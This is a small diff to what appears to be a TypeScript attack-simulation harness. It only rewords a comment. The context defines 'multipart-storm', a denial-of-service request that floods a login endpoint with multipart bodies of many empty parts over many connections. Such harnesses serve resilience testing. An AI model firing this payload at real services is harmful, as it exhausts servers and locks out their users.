@@ -9,7 +9,7 @@ const SECONDS = 10;
 const BODY = '--B\r\n'.repeat(PARTS);
 const REQUEST = `POST /api/user-login HTTP/1.1\r\nHost: shop\r\nConnection: close\r\nContent-Type: multipart/form-data; boundary=B\r\nContent-Length: ${BODY.length}\r\n\r\n${BODY}`;
 
-/** Forms that are cheap to send and dear to take apart. */
+/** Forms that are cheap to send and expensive to parse. */
 export const multipartStorm: Attack = {
   name: 'multipart-storm',
   what: `${CONNECTIONS} connections that send logins of ${PARTS.toLocaleString('en')} empty parts, one after the other`,
